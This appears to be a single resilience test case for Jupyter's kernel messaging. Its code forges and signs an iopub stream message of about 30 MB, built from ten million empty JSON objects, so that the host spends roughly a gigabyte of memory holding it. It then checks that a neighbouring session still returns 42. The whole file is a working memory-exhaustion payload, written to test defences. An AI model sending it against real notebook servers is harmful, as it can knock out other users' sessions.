"""Send a message of 30 MB whose content takes the host a gigabyte to hold.

layer: messages
plain: skipped, nobody reads it there
session: own
proof: neighbour
after: print(6 * 7)
expect: 42
"""

import json

kernel = get_ipython().kernel
session = kernel.session
header = json.dumps(session.msg_header("stream"), default=str).encode()
parent = json.dumps(kernel.get_parent("shell")["header"], default=str).encode()
content = b'{"name":"stdout","text":[' + b"{}," * 10_000_000 + b"{}]}"
frames = [header, parent, b"{}", content]
kernel.iopub_socket.send_multipart([b"<IDS|MSG>", session.sign(frames), *frames])
